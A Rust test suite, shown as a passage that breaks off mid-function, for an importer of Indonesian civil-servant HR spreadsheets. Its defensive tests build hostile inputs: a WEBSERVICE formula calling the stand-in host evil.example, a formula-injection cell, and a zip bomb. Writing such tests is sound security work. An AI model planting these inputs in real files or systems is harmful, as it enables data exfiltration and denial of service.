//! Imports end to end: real .xlsx and .csv files in a temp dir, into a fresh SQLite file and a
//! fresh PostgreSQL database. Every bad input the importer refuses is sent here.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a failure must stop loudly

use std::io::Write;
use std::path::{Path, PathBuf};

use talenta_app::import::{
    ImportError, ImportKind, ImportLimits, ImportOptions, ImportOutcome, import_file,
};
use talenta_domain::master::Tenant;
use talenta_domain::{Nip, RuleSet};
use talenta_fixture::{self as fx, ctx, today as as_of};
use talenta_store::master::{self as store, UpsertCounts};
use talenta_store::{Db, testing};

fn options() -> ImportOptions {
    ImportOptions {
        limits: ImportLimits::default(),
        as_of: as_of(),
    }
}

fn xlsx(dir: &Path, name: &str, rows: &[&[&str]]) -> PathBuf {
    let path = dir.join(name);
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            if !v.is_empty() {
                ws.write_string(r as u32, c as u16, *v).unwrap();
            }
        }
    }
    wb.save(&path).unwrap();
    path
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn run(
    db: &mut Db,
    t: &Tenant,
    kind: ImportKind,
    path: &Path,
) -> Result<ImportOutcome, ImportError> {
    import_file(
        db,
        &ctx(),
        &talenta_fixture::admin(t).grant().unwrap(),
        kind,
        path,
        &options(),
        &mut |_, _| {},
    )
}

fn ok(db: &mut Db, t: &Tenant, kind: ImportKind, path: &Path) -> ImportOutcome {
    let o = run(db, t, kind, path).unwrap();
    assert!(o.errors.is_empty(), "{kind:?}: {:#?}", o.errors);
    o
}

const UNITS: &[&[&str]] = &[
    &["Kode Unit", "Nama Unit", "Kode Unit Induk"],
    &["SETDA.ORG", "Bagian Organisasi", "SETDA"],
    &["SETDA", "Sekretariat Daerah", ""],
    &["DINKES", "Dinas Kesehatan", ""],
];

const POSITIONS: &[&[&str]] = &[
    &[
        "Kode Jabatan",
        "Nama Jabatan",
        "Kelas Jabatan",
        "Eselon",
        "Kode Unit",
        "Kode Jabatan Atasan",
    ],
    &[
        "KABAG.ORG",
        "Kepala Bagian Organisasi",
        "Administrator",
        "III.a",
        "SETDA.ORG",
        "SEKDA",
    ],
    &[
        "SEKDA",
        "Sekretaris Daerah",
        "JPT Pratama",
        "II.a",
        "SETDA",
        "",
    ],
    &[
        "KASUBAG.KLB",
        "Kepala Subbagian Kelembagaan",
        "Pengawas",
        "IV.a",
        "SETDA.ORG",
        "KABAG.ORG",
    ],
    &[
        "ANALIS.ORG",
        "Analis Organisasi",
        "Fungsional Ahli Pertama",
        "",
        "SETDA.ORG",
        "KASUBAG.KLB",
    ],
];

const EMPLOYEES: &[&[&str]] = &[
    &[
        "NIP",
        "Nama",
        "Jenis Kelamin",
        "Tanggal Lahir",
        "Jenis Pegawai",
        "Golongan",
        "Pendidikan",
        "Kode Jabatan",
        "TMT Jabatan",
    ],
    &[
        "196608011988031001",
        "Drs. Budi Santoso, M.Si.",
        "L",
        "1966-08-01",
        "PNS",
        "IV/c",
        "S2",
        "SEKDA",
        "2021-01-04",
    ],
    &[
        "19750312 200003 2 002",
        "Sri Wahyuni, S.Sos.",
        "P",
        "",
        "PNS",
        "IV/a",
        "S1",
        "KABAG.ORG",
        "2022-03-01",
    ],
    &[
        "198312112021212003",
        "Rina Marlina, S.T.",
        "P",
        "",
        "PPPK",
        "",
        "S1",
        "ANALIS.ORG",
        "",
    ],
];

/// A tenant with units and positions loaded.
fn prepared(db: &mut Db, dir: &Path) -> Tenant {
    let t = store::create_tenant(
        db,
        "kota-contoh",
        "Pemerintah Kota Contoh",
        "kota",
        &RuleSet::default(),
        talenta_store::testing::now(),
    )
    .unwrap();
    ok(db, &t, ImportKind::Units, &xlsx(dir, "units.xlsx", UNITS));
    ok(
        db,
        &t,
        ImportKind::Positions,
        &xlsx(dir, "positions.xlsx", POSITIONS),
    );
    t
}

fn snapshot(db: &mut Db, t: &Tenant) -> Vec<u64> {
    [
        "units",
        "positions",
        "position_standards",
        "employees",
        "performance_ratings",
        "sanctions",
        "assessment_results",
    ]
    .iter()
    .map(|table| store::count(db, t.id, table).unwrap())
    .collect()
}

#[test]
fn units_positions_and_employees_import_in_order_and_twice_changes_nothing() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        let units = store::list_units(&mut t.db, tenant.id).unwrap();
        let org = units.iter().find(|u| u.code == "SETDA.ORG").unwrap();
        let setda = units.iter().find(|u| u.code == "SETDA").unwrap();
        assert_eq!(
            org.parent_id,
            Some(setda.id),
            "child listed before its parent is still linked ({})",
            t.name
        );
        // New positions start with the default standard of their class.
        let kabag = store::position_by_code(&mut t.db, tenant.id, "KABAG.ORG")
            .unwrap()
            .unwrap();
        let std = store::standard_of(&mut t.db, tenant.id, kabag.id).unwrap();
        assert_eq!(std.len(), 9);
        assert!(
            std.iter().all(|(_, l)| l.tenths() == 30),
            "Administrator default level 3"
        );

        let file = xlsx(dir.path(), "employees.xlsx", EMPLOYEES);
        let first = ok(&mut t.db, &tenant, ImportKind::Employees, &file);
        assert_eq!(first.rows, 3);
        assert_eq!(
            first.counts,
            UpsertCounts {
                inserted: 3,
                updated: 0,
                unchanged: 0
            },
            "{}",
            t.name
        );
        let again = ok(&mut t.db, &tenant, ImportKind::Employees, &file);
        assert_eq!(
            again.counts,
            UpsertCounts {
                inserted: 0,
                updated: 0,
                unchanged: 3
            },
            "{}",
            t.name
        );
        for (kind, name, rows) in [
            (ImportKind::Units, "u.xlsx", UNITS),
            (ImportKind::Positions, "p.xlsx", POSITIONS),
        ] {
            let o = ok(&mut t.db, &tenant, kind, &xlsx(dir.path(), name, rows));
            assert_eq!(
                o.counts.inserted + o.counts.updated,
                0,
                "{kind:?} re-import ({})",
                t.name
            );
        }

        let mut changed: Vec<Vec<&str>> = EMPLOYEES.iter().map(|r| r.to_vec()).collect();
        changed[3][1] = "Rina Marlina, S.T., M.T.";
        let rows: Vec<&[&str]> = changed.iter().map(|r| r.as_slice()).collect();
        let third = ok(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "e2.xlsx", &rows),
        );
        assert_eq!(
            third.counts,
            UpsertCounts {
                inserted: 0,
                updated: 1,
                unchanged: 2
            },
            "{}",
            t.name
        );
        let rina = store::employee_by_nip(
            &mut t.db,
            tenant.id,
            Nip::parse("198312112021212003").unwrap(),
        )
        .unwrap()
        .unwrap();
        assert_eq!(rina.name, "Rina Marlina, S.T., M.T.");
    }
}

#[test]
fn one_bad_row_changes_nothing_and_is_reported_with_row_column_value_and_reason() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        ok(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "e.xlsx", &EMPLOYEES[..2]),
        );
        let before = snapshot(&mut t.db, &tenant);
        let mut rows: Vec<&[&str]> = EMPLOYEES.to_vec();
        rows.push(&[
            "19800101200501100",
            "Salah Digit",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ]);
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "bad.xlsx", &rows),
        )
        .unwrap();
        assert!(!o.accepted());
        assert_eq!(o.errors.len(), 1, "{:#?}", o.errors);
        let e = &o.errors[0];
        assert_eq!(
            (e.row, e.column.as_str(), e.value.as_str()),
            (5, "NIP", "19800101200501100")
        );
        assert_eq!(e.reason, "NIP harus 18 digit, ditemukan 17 digit");
        assert_eq!(o.counts, UpsertCounts::default());
        assert_eq!(
            snapshot(&mut t.db, &tenant),
            before,
            "nothing written ({})",
            t.name
        );
        assert!(
            store::employee_by_nip(
                &mut t.db,
                tenant.id,
                Nip::parse("198312112021212003").unwrap()
            )
            .unwrap()
            .is_none()
        );
    }
}

/// Each bad employee row with the column and the words its error must carry.
#[test]
fn every_kind_of_bad_employee_row_is_refused_with_a_precise_reason() {
    let header = EMPLOYEES[0];
    let cases: &[(&[&str], &str, &str)] = &[
        (
            &["196608011988031001", "", "", "", "", "", "", "", ""],
            "Nama",
            "wajib diisi",
        ),
        (
            &["", "Tanpa NIP", "", "", "", "", "", "", ""],
            "NIP",
            "wajib diisi",
        ),
        (
            &["196602301988031001", "X", "", "", "", "", "", "", ""],
            "NIP",
            "bukan tanggal yang sah",
        ),
        (
            &["196608011988031001", "X", "P", "", "", "", "", "", ""],
            "Jenis Kelamin",
            "tidak sesuai dengan NIP",
        ),
        (
            &[
                "196608011988031001",
                "X",
                "",
                "1966-08-02",
                "",
                "",
                "",
                "",
                "",
            ],
            "Tanggal Lahir",
            "tidak sesuai dengan NIP",
        ),
        (
            &["196608011988031001", "X", "", "", "PPPK", "", "", "", ""],
            "Jenis Pegawai",
            "tidak sesuai dengan NIP",
        ),
        (
            &["198312112021212003", "X", "", "", "", "III/a", "", "", ""],
            "Golongan",
            "PPPK tidak memiliki golongan",
        ),
        (
            &["196608011988031001", "X", "", "", "", "V/a", "", "", ""],
            "Golongan",
            "tidak dikenal",
        ),
        (
            &["196608011988031001", "X", "", "", "", "", "Sarjana", "", ""],
            "Pendidikan",
            "tidak dikenal",
        ),
        (
            &[
                "196608011988031001",
                "X",
                "",
                "",
                "",
                "",
                "",
                "TIDAK.ADA",
                "",
            ],
            "Kode Jabatan",
            "jabatan tidak ditemukan",
        ),
        (
            &[
                "196608011988031001",
                "X",
                "",
                "",
                "",
                "",
                "",
                "SEKDA",
                "2027-01-01",
            ],
            "TMT Jabatan",
            "masa depan",
        ),
        (
            &[
                "196608011988031001",
                "X",
                "",
                "",
                "",
                "",
                "",
                "SEKDA",
                "1980-01-01",
            ],
            "TMT Jabatan",
            "sebelum TMT",
        ),
        (
            &[
                "196608011988031001",
                "X",
                "",
                "",
                "",
                "",
                "",
                "SEKDA",
                "kemarin",
            ],
            "TMT Jabatan",
            "tidak dikenali",
        ),
        (
            &["196608011988031001", "=1+1", "", "", "", "", "", "", ""],
            "",
            "",
        ),
    ];
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        for (i, (row, column, words)) in cases.iter().enumerate() {
            let file = xlsx(dir.path(), &format!("case{i}.xlsx"), &[header, row]);
            let o = run(&mut t.db, &tenant, ImportKind::Employees, &file).unwrap();
            if column.is_empty() {
                // A text that looks like a formula is just a name: stored as text, never evaluated.
                assert!(o.accepted(), "{:#?}", o.errors);
                continue;
            }
            assert_eq!(o.errors.len(), 1, "case {i}: {:#?}", o.errors);
            assert_eq!(o.errors[0].column, *column, "case {i}");
            assert!(
                o.errors[0].reason.contains(words),
                "case {i}: {}",
                o.errors[0].reason
            );
            assert_eq!(o.errors[0].row, 2);
        }
        // Duplicated NIP within one file names the first row.
        let file = xlsx(
            dir.path(),
            "dup.xlsx",
            &[header, EMPLOYEES[1], EMPLOYEES[2], EMPLOYEES[1]],
        );
        let o = run(&mut t.db, &tenant, ImportKind::Employees, &file).unwrap();
        assert_eq!(o.errors.len(), 1);
        assert!(
            o.errors[0].reason.contains("sama dengan baris 2"),
            "{}",
            o.errors[0].reason
        );
        assert_eq!(o.errors[0].row, 4);
    }
}

#[test]
fn an_implausible_age_is_a_warning_and_the_row_is_imported() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let rows: &[&[&str]] = &[
        EMPLOYEES[0],
        &[
            "200001012010031001",
            "Anak Muda",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ],
    ];
    let o = ok(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &xlsx(dir.path(), "w.xlsx", rows),
    );
    assert_eq!(o.counts.inserted, 1);
    assert_eq!(o.warnings.len(), 1);
    assert!(
        o.warnings[0].reason.contains("di bawah 18"),
        "{}",
        o.warnings[0].reason
    );
}

#[test]
fn units_and_positions_refuse_unknown_parents_cycles_and_wrong_eselon() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        let before = snapshot(&mut t.db, &tenant);
        let cycle: &[&[&str]] = &[
            UNITS[0],
            &["A", "Unit A", "B"],
            &["B", "Unit B", "A"],
            &["C", "Unit C", "TIDAK.ADA"],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Units,
            &xlsx(dir.path(), "cycle.xlsx", cycle),
        )
        .unwrap();
        let reasons: Vec<&str> = o.errors.iter().map(|e| e.reason.as_str()).collect();
        assert_eq!(o.errors.len(), 3, "{reasons:#?}");
        assert!(reasons.iter().filter(|r| r.contains("melingkar")).count() == 2);
        assert!(
            reasons
                .iter()
                .any(|r| r.contains("'TIDAK.ADA' tidak ditemukan"))
        );
        // A cycle through stored data: SETDA (stored, top) placed under its own child.
        let through_db: &[&[&str]] = &[UNITS[0], &["SETDA", "Sekretariat Daerah", "SETDA.ORG"]];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Units,
            &xlsx(dir.path(), "cycle2.xlsx", through_db),
        )
        .unwrap();
        assert_eq!(o.errors.len(), 1, "{:#?}", o.errors);
        let bad_pos: &[&[&str]] = &[
            POSITIONS[0],
            &["X1", "Kepala Seksi", "Pengawas", "III.a", "SETDA", ""],
            &["X2", "Kepala Seksi", "Pengawas", "IV.a", "TIDAK.ADA", ""],
            &["X3", "Kepala Seksi", "Kepala", "", "SETDA", ""],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Positions,
            &xlsx(dir.path(), "pos.xlsx", bad_pos),
        )
        .unwrap();
        let cols: Vec<&str> = o.errors.iter().map(|e| e.column.as_str()).collect();
        assert_eq!(
            cols,
            vec!["Eselon", "Kode Unit", "Kelas Jabatan"],
            "{:#?}",
            o.errors
        );
        assert_eq!(snapshot(&mut t.db, &tenant), before, "{}", t.name);
    }
}

#[test]
fn standards_performance_sanctions_and_results_import_and_refuse_bad_rows() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        ok(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &xlsx(dir.path(), "e.xlsx", EMPLOYEES),
        );
        let standards: &[&[&str]] = &[
            &["Kode Jabatan", "Kode Kompetensi", "Level"],
            &["KABAG.ORG", "M.1", "4"],
            &["KABAG.ORG", "T.ORG-1", "2,5"],
        ];
        let o = ok(
            &mut t.db,
            &tenant,
            ImportKind::Standards,
            &xlsx(dir.path(), "s.xlsx", standards),
        );
        assert_eq!(
            o.counts,
            UpsertCounts {
                inserted: 1,
                updated: 1,
                unchanged: 0
            },
            "{}",
            t.name
        );
        let bad_std: &[&[&str]] = &[
            standards[0],
            &["KABAG.ORG", "M.9", "3"],
            &["KABAG.ORG", "M.2", "6"],
            &["NOPE", "M.1", "3"],
            &["KABAG.ORG", "M.1", "2.3"],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Standards,
            &xlsx(dir.path(), "s2.xlsx", bad_std),
        )
        .unwrap();
        assert_eq!(o.errors.len(), 4, "{:#?}", o.errors);

        let perf: &[&[&str]] = &[
            &["NIP", "Tahun", "Predikat", "Nilai"],
            &["196608011988031001", "2024", "Baik", ""],
            &["196608011988031001", "2025", "Sangat Baik", ""],
            &["196608011988031001", "2019", "", "85,57"],
        ];
        let o = ok(
            &mut t.db,
            &tenant,
            ImportKind::Performance,
            &xlsx(dir.path(), "k.xlsx", perf),
        );
        assert_eq!(o.counts.inserted, 3);
        let bad_perf: &[&[&str]] = &[
            perf[0],
            &["196608011988031001", "2030", "Baik", ""],
            &["196608011988031001", "2023", "Baik", "80"],
            &["196608011988031001", "2022", "", ""],
            &["196608011988031001", "2021", "Cukup Baik", ""],
            &["199901012020011001", "2024", "Baik", ""],
            &["196608011988031001", "2024", "Baik", ""],
            &["196608011988031001", "2024", "Baik", ""],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Performance,
            &xlsx(dir.path(), "k2.xlsx", bad_perf),
        )
        .unwrap();
        let cols: Vec<(usize, &str)> = o
            .errors
            .iter()
            .map(|e| (e.row, e.column.as_str()))
            .collect();
        assert_eq!(
            cols,
            vec![
                (2, "Tahun"),
                (3, "Nilai"),
                (4, "Predikat"),
                (5, "Predikat"),
                (6, "NIP"),
                (8, "Tahun")
            ],
            "{:#?}",
            o.errors
        );

        let sanctions: &[&[&str]] = &[
            &[
                "NIP",
                "Tingkat",
                "Tanggal Keputusan",
                "Tanggal Selesai",
                "Keterangan",
            ],
            &[
                "19750312200003 2002",
                "Sedang",
                "2025-02-03",
                "2026-02-03",
                "Tidak masuk kerja 15 hari",
            ],
        ];
        ok(
            &mut t.db,
            &tenant,
            ImportKind::Sanctions,
            &xlsx(dir.path(), "h.xlsx", sanctions),
        );
        let bad_sanctions: &[&[&str]] = &[
            sanctions[0],
            &["19750312200003 2002", "Keras", "2025-02-03", "", ""],
            &[
                "19750312200003 2002",
                "Ringan",
                "2025-02-03",
                "2025-01-01",
                "",
            ],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Sanctions,
            &xlsx(dir.path(), "h2.xlsx", bad_sanctions),
        )
        .unwrap();
        assert_eq!(o.errors.len(), 2, "{:#?}", o.errors);

        let results: &[&[&str]] = &[
            &[
                "NIP",
                "Tanggal Asesmen",
                "Penyelenggara",
                "Tujuan",
                "M.1",
                "M.2",
                "M.3",
                "M.4",
                "M.5",
                "M.6",
                "M.7",
                "M.8",
                "SK.1",
                "T.ORG-1",
            ],
            &[
                "196608011988031001",
                "2019-09-11",
                "Assessment Center Mabes Polri",
                "Pemetaan",
                "4",
                "4",
                "3+",
                "4",
                "4",
                "3,5",
                "4",
                "4",
                "4",
                "",
            ],
            &[
                "19750312 200003 2 002",
                "2024-05-06",
                "BKD Provinsi",
                "Pengisian Jabatan",
                "3",
                "3",
                "3",
                "3",
                "3",
                "3",
                "3",
                "3",
                "3",
                "2.5",
            ],
        ];
        let o = ok(
            &mut t.db,
            &tenant,
            ImportKind::Results,
            &xlsx(dir.path(), "r.xlsx", results),
        );
        assert_eq!(o.counts.inserted, 2);
        let o = ok(
            &mut t.db,
            &tenant,
            ImportKind::Results,
            &xlsx(dir.path(), "r.xlsx", results),
        );
        assert_eq!(o.counts.unchanged, 2, "{}", t.name);
        let bad_results: &[&[&str]] = &[
            results[0],
            &[
                "196608011988031001",
                "2019-09-11",
                "X",
                "Pemetaan",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
            ],
            &[
                "196608011988031001",
                "2019-09-12",
                "X",
                "Lainnya",
                "3",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
            ],
            &[
                "196608011988031001",
                "2019-09-13",
                "X",
                "Pemetaan",
                "7",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "x",
            ],
        ];
        let o = run(
            &mut t.db,
            &tenant,
            ImportKind::Results,
            &xlsx(dir.path(), "r2.xlsx", bad_results),
        )
        .unwrap();
        let cols: Vec<(usize, &str)> = o
            .errors
            .iter()
            .map(|e| (e.row, e.column.as_str()))
            .collect();
        assert_eq!(
            cols,
            vec![(2, "M.1"), (3, "Tujuan"), (4, "M.1"), (4, "T.ORG-1")],
            "{:#?}",
            o.errors
        );
        let emp = store::employee_by_nip(
            &mut t.db,
            tenant.id,
            Nip::parse("196608011988031001").unwrap(),
        )
        .unwrap()
        .unwrap();
        let stored = store::results_of(&mut t.db, tenant.id, emp.id).unwrap();
        assert_eq!(stored.len(), 1);
        assert_eq!(stored[0].levels.len(), 9);
    }
}

#[test]
fn csv_files_with_semicolons_and_a_bom_import_like_xlsx() {
    for mut t in testing::both() {
        let dir = tempfile::tempdir().unwrap();
        let tenant = prepared(&mut t.db, dir.path());
        let text = "\u{FEFF}NIP;Nama;Kode Jabatan\n196608011988031001;\"Budi; Santoso\";SEKDA\n\n198312112021212003;Rina;ANALIS.ORG\n";
        let o = ok(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &write(dir.path(), "e.csv", text.as_bytes()),
        );
        assert_eq!(o.counts.inserted, 2, "{}", t.name);
        let budi = store::employee_by_nip(
            &mut t.db,
            tenant.id,
            Nip::parse("196608011988031001").unwrap(),
        )
        .unwrap()
        .unwrap();
        assert_eq!(budi.name, "Budi; Santoso");
        // Latin-1 bytes are not UTF-8: refused with the row and the fix.
        let err = run(
            &mut t.db,
            &tenant,
            ImportKind::Employees,
            &write(
                dir.path(),
                "l1.csv",
                b"NIP,Nama\n196608011988031001,Jos\xe9\n",
            ),
        )
        .unwrap_err();
        assert!(
            err.to_string().contains("baris 2 bukan teks UTF-8"),
            "{err}"
        );
    }
}

#[test]
fn a_file_without_a_required_column_or_empty_is_refused_as_a_whole() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &xlsx(
            dir.path(),
            "m.xlsx",
            &[&["NIP", "Alamat"], &["196608011988031001", "x"]],
        ),
    )
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "kolom wajib tidak ditemukan di baris judul: Nama"
    );
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &xlsx(dir.path(), "d.xlsx", &[&["NIP", "Nama", "nip"]]),
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::DuplicateColumn(_)), "{err}");
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &write(dir.path(), "empty.csv", b""),
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::Empty), "{err}");
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &write(dir.path(), "x.xls", b"whatever"),
    )
    .unwrap_err();
    assert!(err.to_string().contains("gunakan .xlsx atau .csv"), "{err}");
}

#[test]
fn a_nip_typed_as_a_number_in_excel_is_refused_because_digits_were_lost() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let path = dir.path().join("n.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "NIP").unwrap();
    ws.write_string(0, 1, "Nama").unwrap();
    ws.write_number(1, 0, 196608011988031001.0).unwrap();
    ws.write_string(1, 1, "Budi").unwrap();
    wb.save(&path).unwrap();
    let o = run(&mut t.db, &tenant, ImportKind::Employees, &path).unwrap();
    assert_eq!(o.errors.len(), 1);
    assert!(
        o.errors[0].reason.contains("digit terakhirnya hilang"),
        "{}",
        o.errors[0].reason
    );
}

#[test]
fn formula_cells_give_their_cached_value_and_are_never_evaluated() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let path = dir.path().join("f.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "NIP").unwrap();
    ws.write_string(0, 1, "Nama").unwrap();
    ws.write_string(1, 0, "196608011988031001").unwrap();
    ws.write_formula(
        1,
        1,
        rust_xlsxwriter::Formula::new("=CONCATENATE(\"Budi\",\" Santoso\")")
            .set_result("Budi Santoso"),
    )
    .unwrap();
    ws.write_string(2, 0, "198312112021212003").unwrap();
    ws.write_formula(
        2,
        1,
        rust_xlsxwriter::Formula::new("=WEBSERVICE(\"http://evil.example/\")").set_result("Rina"),
    )
    .unwrap();
    wb.save(&path).unwrap();
    let o = ok(&mut t.db, &tenant, ImportKind::Employees, &path);
    assert_eq!(o.counts.inserted, 2);
    let names: Vec<String> = store::list_employees(&mut t.db, tenant.id)
        .unwrap()
        .into_iter()
        .map(|e| e.name)
        .collect();
    assert_eq!(names, vec!["Budi Santoso", "Rina"]);
}

// ---------------------------------------------------------------- hostile files

fn zip_file(path: &Path, parts: &[(&str, &[u8])]) {
    let f = std::fs::File::create(path).unwrap();
    let mut z = zip::ZipWriter::new(f);
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in parts {
        z.start_file(*name, opts).unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
}

const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const RELS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const WORKBOOK: &str = r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Pegawai" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const WB_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

fn handmade_xlsx(path: &Path, sheet: &str, extra: &[(&str, &[u8])]) {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", CONTENT_TYPES.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("xl/workbook.xml", WORKBOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", WB_RELS.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    parts.extend_from_slice(extra);
    zip_file(path, &parts);
}

const SMALL_SHEET: &str = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>NIP</t></is></c><c r="B1" t="inlineStr"><is><t>Nama</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>196608011988031001</t></is></c><c r="B2" t="inlineStr"><is><t>Budi</t></is></c></row></sheetData></worksheet>"#;

#[test]
fn a_handmade_minimal_xlsx_is_read_so_the_hostile_variants_below_differ_only_in_their_attack() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let path = dir.path().join("ok.xlsx");
    handmade_xlsx(&path, SMALL_SHEET, &[]);
    assert_eq!(
        ok(&mut t.db, &tenant, ImportKind::Employees, &path)
            .counts
            .inserted,
        1
    );
}

#[test]
fn hostile_files_are_refused_and_nothing_is_written() {
    let mut t = testing::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let tenant = prepared(&mut t.db, dir.path());
    let before = snapshot(&mut t.db, &tenant);

    // Bytes that are not xlsx.
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &write(dir.path(), "random.xlsx", &[7u8; 4096]),
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::NotXlsx), "{err}");
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &write(dir.path(), "text.xlsx", b"NIP,Nama\n"),
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::NotXlsx), "{err}");
    // A truncated zip.
    let good = dir.path().join("good.xlsx");
    handmade_xlsx(&good, SMALL_SHEET, &[]);
    let bytes = std::fs::read(&good).unwrap();
    let err = run(
        &mut t.db,
        &tenant,
        ImportKind::Employees,
        &write(dir.path(), "cut.xlsx", &bytes[..bytes.len() / 2]),
    )
    .unwrap_err();
    assert!(
        matches!(err, ImportError::NotXlsx | ImportError::BadXlsx(_)),
        "{err}"
    );

    // A zip bomb: zeros that inflate far beyond the limit (here 64 MB; by default 2 GB).
    let bomb = dir.path().join("bomb.xlsx");
    {
        let f = std::fs::File::create(&bomb).unwrap();
        let mut z = zip::ZipWriter::new(f);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        z.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
        let chunk = vec![0u8; 1 << 20];
        for _ in 0..100 {
            z.write_all(&chunk).unwrap();
        }
        z.finish().unwrap();
    }
    assert!(
        std::fs::metadata(&bomb).unwrap().len() < 1_000_000,
        "the bomb is small on disk"
    );
    let tight = ImportOptions {
        limits: ImportLimits {
            max_uncompressed_bytes: 64 * 1024 * 1024,
            ..ImportLimits::default()
        },
        as_of: as_of(),
    };
    let err = import_file(
        &mut t.db,
        &ctx(),
        &talenta_fixture::admin(&tenant).grant().unwrap(),
        ImportKind::Employees,
        &bomb,
        &tight,
        &mut |_, _| {},
    )
    .unwrap_err();
    assert!(matches!(err, ImportError::ZipBomb(_)), "{err}");
    assert!(err.to_string().contains("mengembang"), "{err}");

    // A shared-strings part that inflates beyond the per-part cap (caught while inflating).
    let strings_bomb = dir.path().join("strings.xlsx");
    let zeros = vec![b' '; 3 * 1024 * 1024];
    handmade_xlsx(
        &strings_bomb,
        SMALL_SHEET,
        &[("xl/sharedStrings.xml", &zeros)],
    );
    let small_parts = ImportOptions {
        limits: ImportLimits {
            max_part_bytes: 1024 * 1024,
            ..ImportLimits::default()
        },
